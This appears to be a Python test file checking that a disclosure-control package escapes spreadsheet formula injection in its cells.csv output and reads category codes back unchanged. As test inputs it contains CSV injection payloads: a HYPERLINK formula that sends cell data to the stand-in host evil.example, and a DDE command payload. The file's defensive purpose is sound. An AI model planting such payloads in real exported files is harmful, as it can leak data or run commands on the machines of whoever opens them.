"""cells.csv never runs as a formula, and its codes still come back bit for bit.

A researcher or a data supplier can make a category label ``=HYPERLINK(...)`` or a DDE
payload; an output checker opens cells.csv (true values and statuses) in a spreadsheet
program. cells.csv was written raw; now every text field gets OWASP's apostrophe
(``csv_field``), report.json says so (``cells_csv.formula_escaped``) and every reader
undoes it exactly. A folder written before (raw codes, no marker) reads as it did.
"""

from __future__ import annotations

import csv
import itertools
import json
import tempfile
import tomllib
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from fivesafes.release.submission import read_table_dir, table_of_files, table_of_result
from fivesafes.sdc import (
    Hierarchy,
    TableResult,
    apply_primary_rules,
    build_report,
    parse_spec,
    published_cells,
    tables,
)
from fivesafes.sdc.formats.injection import TRIGGERS, is_number_text
from fivesafes.sdc.outputs.cells_csv import CELLS_CSV_FORMAT
from fivesafes.sdc.outputs.reader import read_output_cells
from fivesafes.sdc.view.show import read_output

HYPERLINK = '=HYPERLINK("http://evil.example/?"&C2,"click me")'
DDE = "=cmd|' /C calc'!A0"
DIMS = ("code", "band")
# (the tabulation refuses control characters in codes: "\tTAB" is in the property test)
CODES = [HYPERLINK, DDE, "@SUM(1)", "+x", "-x", "-1", "+2.5", "'=quoted", "'-1", "N"]

SPEC = """\
[table]
name = "t"

[[dimension]]
name = "code"

[[dimension]]
name = "band"

[rules]
threshold = 3

[suppression]
method = "none"
"""


def protected(folder: Path, codes: list[str]) -> TableResult:
    """A count table of ``codes`` x two bands, written to ``folder`` with its spec."""
    folder.mkdir(parents=True, exist_ok=True)
    spec = folder / "t.toml"
    spec.write_text(SPEC)
    rows = [(c, b) for i, c in enumerate(codes) for b in ("a", "b") for _ in range(i % 4 + 1)]
    data = pd.DataFrame(rows, columns=["code", "band"], dtype=str)
    result = tables(spec, data, secondary="none")
    result.write(folder)
    return result


def formula_like(field: str) -> bool:
    """What a spreadsheet program would run: a trigger first, and not a number."""
    return field.startswith(TRIGGERS) and not is_number_text(field)


def fields(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as fh:
        return [f for row in csv.reader(fh) for f in row]


def as_old_version(folder: Path, result: TableResult) -> None:
    """Rewrite ``folder`` as fivesafes wrote it before: codes raw, no marker in report.json."""
    published_cells(result).to_csv(folder / "cells.csv", index=False, lineterminator="\n")
    report = json.loads((folder / "report.json").read_text())
    report.pop(CELLS_CSV_FORMAT, None)
    (folder / "report.json").write_text(json.dumps(report, indent=2) + "\n")


def codes_read(cells: pd.DataFrame) -> set[str]:
    return set(cells["code"].dropna())


def test_no_field_of_cells_csv_starts_a_formula(tmp_path: Path) -> None:
    protected(tmp_path, CODES)
    written = fields(tmp_path / "cells.csv")
    assert not [f for f in written if formula_like(f)]
    for code in (HYPERLINK, DDE, "@SUM(1)", "+x", "-x"):
        assert "'" + code in written, code
    assert "-1" in written and "+2.5" in written and "'-1" in written  # numbers stay
    assert "''=quoted" in written  # one more apostrophe: the escape is undone exactly
    report = json.loads((tmp_path / "report.json").read_text())
    assert report[CELLS_CSV_FORMAT] == {"formula_escaped": True}


def test_every_reader_gets_the_codes_back(tmp_path: Path) -> None:
    result = protected(tmp_path, CODES)
    want = set(CODES) | {"Total"}
    assert codes_read(read_output_cells(tmp_path / "cells.csv", DIMS)) == want
    shown = read_output(tmp_path)  # table show: the status digest matches too
    assert codes_read(shown.cells) == want
    table = read_table_dir(tmp_path)  # release submit
    assert codes_read(table.cells) == want
    assert {c for h in table.hierarchies for c in h.codes} >= set(CODES)
    assert len(table.cells) == len(result.cells)


def test_a_folder_of_the_earlier_version_reads_and_submits_as_before(tmp_path: Path) -> None:
    new, old = tmp_path / "new", tmp_path / "old"
    result = protected(new, CODES)
    protected(old, CODES)
    as_old_version(old, result)
    assert "''=quoted" not in fields(old / "cells.csv")  # raw: "'=quoted" as it is
    want = set(CODES) | {"Total"}
    assert codes_read(read_output(old).cells) == want  # not "=quoted": no unescape unmarked
    before, after = read_table_dir(old), read_table_dir(new)
    assert codes_read(before.cells) == want
    pd.testing.assert_frame_equal(before.cells, after.cells)
    assert before.hierarchies == after.hierarchies
    a, b = before.output_table("x"), after.output_table("x")
    pd.testing.assert_frame_equal(a.cells, b.cells)


def hand_built(folder: Path, codes: list[str]) -> TableResult:
    """A count table of ``codes`` x two bands built by hand (a library user may, and a
    session does: no tabulation refusing control characters), written with its spec."""
    spec = parse_spec(tomllib.loads(SPEC), source_text=SPEC)
    code_h = Hierarchy.flat("code", codes, total="Total")
    band_h = Hierarchy.flat("band", ["a", "b"], total="Total")
    rows = []
    for i, (c, b) in enumerate(itertools.product(code_h.codes, band_h.codes)):
        n = i % 5
        rows.append({"code": c, "band": b, "records": n, "contributors": n, "value": float(n)})
        rows[-1].update({"rule_total": float(n), "top1": 1.0 * (n > 0), "negatives": 0})
    cells = apply_primary_rules(pd.DataFrame(rows), spec.rules, frequency=True)
    hierarchies = (code_h, band_h)
    report = build_report(spec, cells, hierarchies, source={"kind": "test"}, timings={})
    report["audit"] = {"run": False, "reason": "not under test"}
    result = TableResult(spec=spec, cells=cells, hierarchies=hierarchies, report=report)
    result.write(folder)
    (folder / "t.toml").write_text(SPEC)
    return result


def same_text(read: pd.DataFrame, result: TableResult) -> None:
    """Every text column read back is the one written, row by row, bit for bit."""
    written = published_cells(result)
    for col in ("code", "band", "status", "rule"):
        assert read[col].fillna("").tolist() == written[col].fillna("").tolist(), col


CODE = st.text(
    st.sampled_from(
        ["=", "+", "-", "@", "\t", "\r", "\n", "'", "1", ".", "e", "x", " ", "é", "€", '"', ","]
    ),
    min_size=1,
    max_size=6,
)


@settings(max_examples=60, deadline=None)
@given(codes=st.lists(CODE, min_size=1, max_size=5, unique=True))
@example(codes=["\rCR", "\tTAB", "=x\r", "'=q", "''@q", "-1", "+2.5", "a\nb", "é€"])
def test_any_code_round_trips_bit_for_bit(codes: list[str]) -> None:
    # a blank code or the total's is not a category: Hierarchy refuses it, as before
    codes = [c for c in codes if c.strip() and c != "Total"]
    if not codes:
        return
    with tempfile.TemporaryDirectory() as scratch:
        folder = Path(scratch)
        result = hand_built(folder, codes)
        assert not [f for f in fields(folder / "cells.csv") if formula_like(f)]
        same_text(read_output_cells(folder / "cells.csv", DIMS), result)
        table = read_table_dir(folder)  # release submit, and a stored output's files
        same_text(table.cells, result)
        if all(c == c.strip() for c in codes):  # the hierarchies' JSON strips codes (as before)
            same_text(table_of_files(table.to_files()).cells, result)
        same_text(read_output(folder, folder / "t.toml").cells, result)  # table show


def test_a_stored_output_is_escaped_too(tmp_path: Path) -> None:
    """``table protect --dataset`` stores the same files in the area (table_of_result)."""
    result = protected(tmp_path, CODES)
    table = table_of_result(result)
    files = table.to_files()
    (tmp_path / "stored.csv").write_bytes(files["cells.csv"])
    assert not [f for f in fields(tmp_path / "stored.csv") if formula_like(f)]
    assert codes_read(table_of_files(files).cells) == set(CODES) | {"Total"}


@pytest.mark.parametrize("name", ["=cmd|' /C calc'!A0", "code"])
def test_a_dimension_named_like_a_formula_is_escaped_in_the_header(
    tmp_path: Path, name: str
) -> None:
    spec = tmp_path / "t.toml"
    spec.write_text(SPEC.replace('name = "code"', f"name = {json.dumps(name)}"))
    data = pd.DataFrame({name: ["x", "y"] * 3, "band": ["a"] * 6}, dtype=str)
    tables(spec, data, secondary="none").write(tmp_path)
    header = fields(tmp_path / "cells.csv")[:2]
    assert not [f for f in header if formula_like(f)]
    read = read_output_cells(tmp_path / "cells.csv", (name, "band"))
    assert list(read.columns[:2]) == [name, "band"]
    assert list(read_table_dir(tmp_path).cells.columns[:2]) == [name, "band"]
